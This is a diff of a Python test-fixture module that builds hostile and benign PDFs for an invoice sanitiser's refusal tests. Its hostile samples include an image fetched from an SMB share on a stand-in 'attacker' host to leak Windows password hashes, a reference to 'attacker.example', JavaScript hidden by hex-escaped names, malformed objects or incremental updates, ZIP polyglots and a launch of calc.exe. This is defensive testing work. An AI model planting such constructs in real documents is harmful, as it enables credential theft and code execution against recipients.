@@ -6,13 +6,38 @@ keys does not reach. ``HOSTILE`` maps a name to (bytes, words the refusal contai
 from __future__ import annotations
 
 import io
-import re
 from collections.abc import Callable
 
 import pikepdf
 from pikepdf import Array, Dictionary, Name, String
 
-__all__ = ["BENIGN", "HOSTILE", "append_update", "assemble", "build", "save"]
+from tests.invoices.raw_pdfs import (
+    CATALOG,
+    CONTENT,
+    DEEP,
+    ESCAPED_JS,
+    PAGE,
+    PAGES,
+    append_update,
+    assemble,
+    clean,
+    escaped_open_action,
+    escaped_page_action,
+    names_javascript_then,
+    open_action_nested_too_deep,
+    struct_elem_gotor_in_a_link_dest,
+    zip_after_a_comment,
+    zip_in_a_stream,
+)
+
+__all__ = [
+    "BENIGN",
+    "HOSTILE",
+    "append_update",
+    "assemble",
+    "build",
+    "save",
+]
 
 SMB_PATH = "\\\\attacker\\share\\x.pdf"
 EXE = b"MZ\x90\x00" + bytes(120) + b"This program cannot be run in DOS mode."
@@ -142,6 +167,35 @@ def _stashed_js(pdf):
     pdf.Root.Stash = pdf.make_indirect(js())
 
 
+def _external_stream(pdf):
+    """An image whose data a reader fetches from an SMB share (stream /F): the share gets
+    the user's Windows password hash."""
+    image = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1)
+    image.F = String(SMB_PATH.replace(".pdf", ".jpg"))
+    pdf.pages[0].obj.Resources.XObject = Dictionary(Im1=image)
+
+
+def _reference_xobject(pdf):
+    """A reference XObject: the page of another document, at a plain-http address."""
+    target = Dictionary(F=String("http://attacker.example/x.pdf"), Page=0)
+    form = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 1, 1])
+    form.Ref = target
+    pdf.pages[0].obj.Resources.XObject = Dictionary(Fm1=form)
+
+
+def _tagged(pdf):
+    """A tagged PDF: structure elements' /S (/Document, /P, /Link, /Figure) is no action."""
+    root = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot))
+    kids = [
+        pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name(s), P=root, K=0))
+        for s in ("/P", "/H1", "/Link", "/Figure", "/Table", "/Span")
+    ]
+    document = Dictionary(Type=Name.StructElem, S=Name.Document, P=root, K=Array(kids))
+    root.K = pdf.make_indirect(document)
+    pdf.Root.StructTreeRoot = root
+    pdf.Root.MarkInfo = Dictionary(Marked=True)
+
+
 def _benign(pdf):
     page = pdf.pages[0].obj
     _link(pdf, Dictionary(S=Name.GoTo, D=Array([page, Name.XYZ, 0, 842, 0])))
@@ -156,72 +210,7 @@ def _benign(pdf):
     pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.D)]))
 
 
-# Raw assembly, for what pikepdf would normalise away (name escapes, incremental updates).
-
-
-def assemble(objects: list[bytes]) -> bytes:
-    """A PDF of ``objects`` (numbered from 1; 1 is the catalog) with a correct xref."""
-    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
-    offsets = []
-    for number, body in enumerate(objects, 1):
-        offsets.append(len(out))
-        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
-    xref = len(out)
-    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
-    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
-    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
-        len(objects) + 1,
-        xref,
-    )
-    return bytes(out)
-
-
-def append_update(pdf: bytes, objects: dict[int, bytes], *, listed: bool = True) -> bytes:
-    """``pdf`` with an incremental update appended that writes ``objects``; with
-    ``listed=False`` the bodies are written but the update's xref does not list them."""
-    previous = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
-    size = int(re.findall(rb"/Size (\d+)", pdf)[-1])
-    out = bytearray(pdf)
-    offsets = {}
-    for number, body in objects.items():
-        offsets[number] = len(out)
-        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
-    xref = len(out)
-    out += b"xref\n"
-    for number, offset in offsets.items() if listed else ():
-        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
-    if not listed:
-        out += b"0 1\n0000000000 65535 f \n"
-    size = max(size, *(n + 1 for n in objects)) if listed else size
-    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
-        size,
-        previous,
-        xref,
-    )
-    return bytes(out)
-
-
-_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
-_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
-_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R %s>>"
-_CONTENT = b"<< /Length 0 >>\nstream\n\nendstream"
-_ESCAPED_JS = b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
-
-
-def _escaped_open_action() -> bytes:
-    """``/J#61vaScript`` is ``/JavaScript`` and ``/J#53`` is ``/JS`` once decoded."""
-    catalog = _CATALOG[:-2] + b"/Open#41ction 5 0 R >>"
-    return assemble([catalog, _PAGES, _PAGE % b"", _CONTENT, _ESCAPED_JS])
-
-
-def _escaped_page_action() -> bytes:
-    """``/A#41`` is ``/AA``: a script that runs when the page is shown."""
-    return assemble([_CATALOG, _PAGES, _PAGE % b"/A#41 << /O 5 0 R >> ", _CONTENT, _ESCAPED_JS])
-
-
-def _clean() -> bytes:
-    return assemble([_CATALOG, _PAGES, _PAGE % b"", _CONTENT])
-
+_DAMAGED = "damaged"
 
 HOSTILE: dict[str, tuple[bytes, str]] = {
     "javascript-in-an-outline-item": (build(_outline_js), "JavaScript"),
@@ -244,39 +233,60 @@ HOSTILE: dict[str, tuple[bytes, str]] = {
     "uri-to-plain-http": (build(_uri("http://pay.example/INV-1")), "not https"),
     "uri-to-a-local-file": (build(_uri("file:///C:/Windows/System32/calc.exe")), "not https"),
     "javascript-chained-after-a-goto": (build(_js_after_goto), "JavaScript"),
-    "hex-escaped-javascript-open-action": (_escaped_open_action(), "JavaScript"),
-    "hex-escaped-page-aa": (_escaped_page_action(), "runs by itself"),
+    "hex-escaped-javascript-open-action": (escaped_open_action(), "JavaScript"),
+    "hex-escaped-page-aa": (escaped_page_action(), "runs by itself"),
     "javascript-only-inside-an-object-stream": (
         build(_stashed_js, object_streams=True),
         "JavaScript",
     ),
     "unreferenced-javascript-added-by-an-incremental-update": (
-        append_update(_clean(), {5: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"}),
+        append_update(clean(), {5: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"}),
         "JavaScript",
     ),
     "javascript-left-in-a-superseded-catalog": (
         append_update(
             assemble(
                 [
-                    _CATALOG[:-2] + b"/OpenAction 5 0 R >>",
-                    _PAGES,
-                    _PAGE % b"",
-                    _CONTENT,
-                    _ESCAPED_JS,
+                    CATALOG[:-2] + b"/OpenAction 5 0 R >>",
+                    PAGES,
+                    PAGE % b"",
+                    CONTENT,
+                    ESCAPED_JS,
                 ]
             ),
-            {1: _CATALOG, 5: b"null"},
+            {1: CATALOG, 5: b"null"},
         ),
         "JavaScript",
     ),
     "javascript-body-outside-every-xref": (
-        append_update(_clean(), {7: b"<< /S /Launch /F (calc.exe) >>"}, listed=False),
+        append_update(clean(), {7: b"<< /S /Launch /F (calc.exe) >>"}, listed=False),
         "launches a program",
     ),
+    # qpdf reads these objects as null; poppler's pdfinfo -js prints the script.
+    "javascript-then-an-array-nested-600-deep": (names_javascript_then(DEEP + b" >>"), _DAMAGED),
+    "javascript-then-a-64-bit-overflowing-integer": (
+        names_javascript_then(b"/X 99999999999999999999999999999999999999 >>"),
+        _DAMAGED,
+    ),
+    "javascript-then-an-unterminated-string": (names_javascript_then(b"/X (aaa >>"), _DAMAGED),
+    "javascript-then-too-many-stray-braces": (
+        names_javascript_then(b"/X [" + b" }" * 20 + b" ] >>"),
+        _DAMAGED,
+    ),
+    "open-action-nested-600-deep": (open_action_nested_too_deep(), _DAMAGED),
+    "struct-elem-gotor-in-a-link-dest": (
+        struct_elem_gotor_in_a_link_dest(),
+        "opens another document",
+    ),
+    "zip-after-a-comment-after-eof": (zip_after_a_comment(), "foreign data"),
+    "zip-in-a-stream-whose-comment-is-the-pdf-tail": (zip_in_a_stream(), "ZIP archive"),
+    "image-stream-fetched-from-an-smb-share": (build(_external_stream), "another file"),
+    "reference-xobject-to-a-plain-http-document": (build(_reference_xobject), "another file"),
 }
 
 BENIGN: dict[str, bytes] = {
+    "tagged-structure-elements": build(_tagged),
     "goto-and-https-links-outline-and-page-labels": build(_benign),
     "goto-and-https-links-in-object-streams": build(_benign, object_streams=True),
-    "clean-incremental-update": append_update(_clean(), {1: _CATALOG[:-2] + b"/Lang (en) >>"}),
+    "clean-incremental-update": append_update(clean(), {1: CATALOG[:-2] + b"/Lang (en) >>"}),
 }
